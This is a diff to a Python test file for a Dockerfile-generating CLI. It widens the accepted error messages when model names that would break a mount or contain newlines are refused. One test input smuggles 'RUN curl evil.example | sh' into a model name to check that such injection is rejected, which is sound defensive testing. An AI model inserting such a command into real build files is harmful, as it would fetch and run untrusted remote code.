@@ -147,7 +147,11 @@ def test_a_model_name_that_breaks_the_mount_is_refused(cli: Cli, tmp_path: Path,
     result = cli("dockerfile", "--engine", "vllm", "--variant", "cpu", env=_renamed_smoke_model(tmp_path, name))
     assert result.returncode == 2, result.stdout + result.stderr
     message = " ".join(result.stderr.split())
-    assert f"error: weights path {'/models/' + name!r} cannot be a mount target in a `docker run -v`" in message
+    # refused where the name is read (matrix.toml's model names), or failing that by the renderer
+    assert (
+        "a name (letters, digits, '.', '_', '-'" in message
+        or f"error: weights path {'/models/' + name!r} cannot be a mount target in a `docker run -v`" in message
+    ), message
     assert "Traceback" not in result.stderr
     assert not (tmp_path / "dockerfiles").exists() or not list((tmp_path / "dockerfiles").iterdir())
 
@@ -156,7 +160,7 @@ def test_a_model_name_with_a_newline_is_refused_naming_the_header(cli: Cli, tmp_
     env = _renamed_smoke_model(tmp_path, "smoke-gemma3\nRUN curl evil.example | sh\n#")
     result = cli("dockerfile", "--engine", "xllamacpp", env=env)
     assert result.returncode == 2, result.stdout + result.stderr
-    assert "contains a control character" in result.stderr
+    assert "contains a control character" in result.stderr or "a name (letters, digits" in result.stderr
     assert not (tmp_path / "dockerfiles").exists() or not list((tmp_path / "dockerfiles").iterdir())
 
 
